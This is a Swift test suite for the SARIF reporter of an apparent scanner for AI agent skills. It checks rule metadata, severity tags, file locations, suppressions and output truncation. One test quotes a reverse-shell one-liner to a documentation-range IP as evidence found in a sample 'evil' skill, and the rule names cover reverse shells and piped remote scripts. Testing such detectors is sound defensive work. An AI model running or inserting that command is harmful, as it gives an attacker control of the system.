import Foundation
import SkillScanCore
import SkillScanReporters
import Testing

@Suite struct SARIFReporterTests {
  private func sarif(_ report: ScanReport = SampleReport.report, options: ReportOptions = ReportOptions(sourceRoot: "/repo"), limits: SARIFLimits = .github) throws -> [String: Any] {
    let data = try SARIFReporter(options: options, limits: limits).render(report)
    return try #require(try JSONSerialization.jsonObject(with: data) as? [String: Any])
  }

  private func run(_ log: [String: Any]) throws -> [String: Any] {
    let runs = try #require(log["runs"] as? [[String: Any]])
    #expect(runs.count == 1)
    return try #require(runs.first)
  }

  private func results(_ log: [String: Any]) throws -> [[String: Any]] {
    try #require(try run(log)["results"] as? [[String: Any]])
  }

  private func rules(_ log: [String: Any]) throws -> [[String: Any]] {
    let tool = try #require(try run(log)["tool"] as? [String: Any])
    let driver = try #require(tool["driver"] as? [String: Any])
    #expect(driver["name"] as? String == "skillscan")
    #expect(driver["version"] as? String == "9.9.9-test")
    #expect(driver["informationUri"] as? String != nil)
    return try #require(driver["rules"] as? [[String: Any]])
  }

  private func location(_ result: [String: Any]) -> [String: Any]? {
    ((result["locations"] as? [[String: Any]])?.first?["physicalLocation"]) as? [String: Any]
  }

  private func uri(_ result: [String: Any]) -> String? {
    (location(result)?["artifactLocation"] as? [String: Any])?["uri"] as? String
  }

  @Test func everyRuleIDThatAppearsIsDescribedAndIndexed() throws {
    let log = try sarif()
    #expect(log["version"] as? String == "2.1.0")
    let rules = try rules(log)
    let ids = rules.compactMap { $0["id"] as? String }
    for result in try results(log) {
      let id = try #require(result["ruleId"] as? String)
      let index = try #require(result["ruleIndex"] as? Int)
      #expect(ids[index] == id, "ruleIndex of \(id)")
    }
    #expect(Set(ids) == ["skill-verdict-malicious", "skill-verdict-suspicious", "remote-script-piped-to-shell",
      "unicode-bidi-override", "reverse-shell", "hardcoded-secret", "unreadable-skill"])
    let shell = try #require(rules.first { $0["id"] as? String == "reverse-shell" })
    let properties = try #require(shell["properties"] as? [String: Any])
    #expect(properties["security-severity"] as? String == "9.5")
    #expect((properties["tags"] as? [String])?.prefix(3) == ["security", "W-REVSHELL", "system-compromise"])
    #expect((shell["defaultConfiguration"] as? [String: Any])?["level"] as? String == "error")
    #expect(((shell["help"] as? [String: Any])?["markdown"] as? String)?.isEmpty == false)
    let override = try #require(rules.first { $0["id"] as? String == "remote-script-piped-to-shell" })
    let tags = try #require((override["properties"] as? [String: Any])?["tags"] as? [String])
    #expect(tags.contains("owasp-llm-03") && tags.contains("owasp-asi-04") && tags.count <= 10)
  }

  @Test func ruleInfoFillsTheDescriptor() throws {
    let info = ReportRuleInfo(
      id: "reverse-shell", name: "Reverse shell", pattern: .reverseShell, severity: .critical,
      confidence: .high, summary: "Hands a shell to a remote host.", rationale: "Gives an attacker control.",
      remediation: "Remove it.", references: [.cwe(506), .owaspLLM(6)])
    let rules = try rules(try sarif(options: ReportOptions(rules: ["reverse-shell": info], sourceRoot: "/repo")))
    let shell = try #require(rules.first { $0["id"] as? String == "reverse-shell" })
    #expect(shell["name"] as? String == "Reverse shell")
    #expect((shell["shortDescription"] as? [String: Any])?["text"] as? String == "Hands a shell to a remote host.")
    #expect((shell["fullDescription"] as? [String: Any])?["text"] as? String == "Gives an attacker control.")
    let help = try #require(shell["help"] as? [String: Any])
    #expect((help["text"] as? String)?.contains("Remove it.") == true)
    #expect((help["markdown"] as? String)?.contains("CWE-506") == true)
    let properties = try #require(shell["properties"] as? [String: Any])
    let tags = try #require(properties["tags"] as? [String])
    #expect(tags.starts(with: ["security", "W-REVSHELL", "system-compromise", "external/cwe/cwe-506", "owasp-llm-06"]))
    #expect(tags.count == Set(tags).count)
    #expect(properties["precision"] as? String == "high")
  }

  @Test func resultsPointAtRepositoryFilesWithRegionsAndFingerprints() throws {
    let log = try sarif()
    let all = try results(log)
    let shell = try #require(all.first { $0["ruleId"] as? String == "reverse-shell" })
    #expect(shell["level"] as? String == "error")
    #expect(uri(shell) == "skills/evil/scripts/run.sh")
    #expect((location(shell)?["artifactLocation"] as? [String: Any])?["uriBaseId"] as? String == "%SRCROOT%")
    let region = try #require(location(shell)?["region"] as? [String: Any])
    #expect(region["startLine"] as? Int == 4 && region["startColumn"] as? Int == 1)
    #expect((region["snippet"] as? [String: Any])?["text"] as? String == "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1")
    let expected = Finding.fingerprints(of: SampleReport.malicious.findings)
    let evil = all.filter { ($0["properties"] as? [String: Any])?["skill"] as? String == "skills/evil" && $0["ruleId"] as? String != "skill-verdict-malicious" }
    #expect(evil.compactMap { ($0["partialFingerprints"] as? [String: String])?["skillscanEvidenceHash/v1"] } == expected)
    let properties = try #require(shell["properties"] as? [String: Any])
    #expect(properties["verdict"] as? String == "malicious" && properties["confidence"] as? String == "high")
    #expect(properties["context"] as? String == "code" && properties["polarity"] as? String == "affirmative")
  }

  @Test func skillLevelFindingsHaveNoRegion() throws {
    let broken = try #require(try results(try sarif()).first { $0["ruleId"] as? String == "unreadable-skill" })
    #expect(uri(broken) == "uploads/bad.zip")
    #expect(location(broken)?["region"] == nil, "SARIF needs startLine >= 1, so line 0 has no region")
  }

  @Test func suppressedFindingsCarrySARIFSuppressions() throws {
    var skill = SampleReport.malicious
    skill.findings[0].suppression = Suppression(kind: .baseline, reason: "accepted in baseline")
    let all = try results(try sarif(ScanReport(tool: SampleReport.tool, skills: [skill])))
    let secret = try #require(all.first { $0["ruleId"] as? String == "hardcoded-secret" })
    let inline = try #require((secret["suppressions"] as? [[String: Any]])?.first)
    #expect(inline["kind"] as? String == "inSource" && inline["justification"] as? String == "test fixture")
    let piped = try #require(all.first { $0["ruleId"] as? String == "remote-script-piped-to-shell" })
    #expect((piped["suppressions"] as? [[String: Any]])?.first?["kind"] as? String == "external")
    #expect(all.first { $0["ruleId"] as? String == "reverse-shell" }?["suppressions"] == nil)
  }

  @Test func flaggedSkillsGetAVerdictAlertOnSkillMD() throws {
    let all = try results(try sarif())
    let verdict = try #require(all.first { $0["ruleId"] as? String == "skill-verdict-malicious" })
    #expect(uri(verdict) == "skills/evil/SKILL.md")
    #expect((location(verdict)?["region"] as? [String: Any])?["startLine"] as? Int == 1)
    let text = try #require((verdict["message"] as? [String: Any])?["text"] as? String)
    #expect(text.hasPrefix("Skill 'evil' is MALICIOUS (score 96/100). Reasons: reverse-shell (W-REVSHELL, critical)"))
    let suspicious = try #require(all.first { $0["ruleId"] as? String == "skill-verdict-suspicious" })
    #expect(suspicious["level"] as? String == "warning")
    #expect(uri(suspicious) == "uploads/bad.zip", "no SKILL.md: the alert sits on the skill itself")
    #expect(!all.contains { ($0["properties"] as? [String: Any])?["skill"] as? String == "skills/fine" })
  }

  @Test func pathsAreMadeRelativeAndArchiveMembersSplitOff() throws {
    var inArchive = SampleReport.malicious
    inArchive.path = "/repo/./uploads/pack.zip!/evil"
    var absolute = SampleReport.safe
    absolute.path = "/elsewhere/my skill"
    absolute.verdict = .suspicious
    let all = try results(try sarif(ScanReport(tool: SampleReport.tool, skills: [inArchive, absolute])))
    let shell = try #require(all.first { $0["ruleId"] as? String == "reverse-shell" })
    #expect(uri(shell) == "uploads/pack.zip")
    #expect(location(shell)?["region"] == nil, "lines inside an archive member do not apply to the archive")
    let logical = (shell["locations"] as? [[String: Any]])?.first?["logicalLocations"] as? [[String: Any]]
    #expect(logical?.first?["fullyQualifiedName"] as? String == "uploads/pack.zip!/evil/scripts/run.sh")
    #expect(((shell["message"] as? [String: Any])?["text"] as? String)?.hasPrefix("In uploads/pack.zip!/evil/scripts/run.sh:4: ") == true)
    let outside = try #require(all.first { $0["ruleId"] as? String == "skill-verdict-suspicious" })
    #expect(uri(outside) == "file:///elsewhere/my%20skill/SKILL.md")
  }

  @Test func truncationKeepsTheMostSevereAndSaysSo() throws {
    let limits = SARIFLimits(maxResults: 3, maxResultBytes: 10_000_000)
    let log = try sarif(limits: limits)
    let all = try results(log)
    #expect(all.count == 3)
    #expect(all.compactMap { $0["ruleId"] as? String } == ["skill-verdict-malicious", "reverse-shell", "skill-verdict-suspicious"])
    let invocation = try #require((try run(log)["invocations"] as? [[String: Any]])?.first)
    let notes = try #require(invocation["toolExecutionNotifications"] as? [[String: Any]])
    let text = try #require((notes.first?["message"] as? [String: Any])?["text"] as? String)
    #expect(text.hasPrefix("SARIF output truncated: 4 of 7 results left out"))
    #expect(try SchemaSupport.validate(try SARIFReporter(limits: limits).render(SampleReport.report), schema: SchemaSupport.sarifSchemaURL).isEmpty)
    let untouched = try run(try sarif(SampleReport.empty))["invocations"] as? [[String: Any]]
    #expect(untouched?.first?["toolExecutionNotifications"] == nil, "no notification when nothing was cut")
  }

  @Test func skillErrorsBecomeNotifications() throws {
    let invocation = try #require((try run(try sarif())["invocations"] as? [[String: Any]])?.first)
    let notes = try #require(invocation["toolExecutionNotifications"] as? [[String: Any]])
    #expect(notes.contains { ($0["message"] as? [String: Any])?["text"] as? String == "uploads/bad.zip: truncated archive" })
  }

  @Test func handmadeReportsValidateAgainstTheSARIFSchema() throws {
    for report in [SampleReport.report, SampleReport.empty, HostileReport.report] {
      let errors = try SchemaSupport.validate(try SARIFReporter().render(report), schema: SchemaSupport.sarifSchemaURL)
      #expect(errors.isEmpty, "\(errors)")
    }
  }

  @Test func streamedAndOneShotOutputsAreIdentical() throws {
    var writer = SARIFReportWriter(output: DataOutput(), options: ReportOptions(sourceRoot: "/repo"))
    try writer.begin(tool: SampleReport.tool)
    var summary = ScanSummary.empty
    for skill in SampleReport.report.skills {
      summary.add(skill)
      try writer.write(skill: skill)
    }
    try writer.end(summary: summary)
    #expect(writer.output.data == (try SARIFReporter(options: ReportOptions(sourceRoot: "/repo")).render(SampleReport.report)))
  }
}
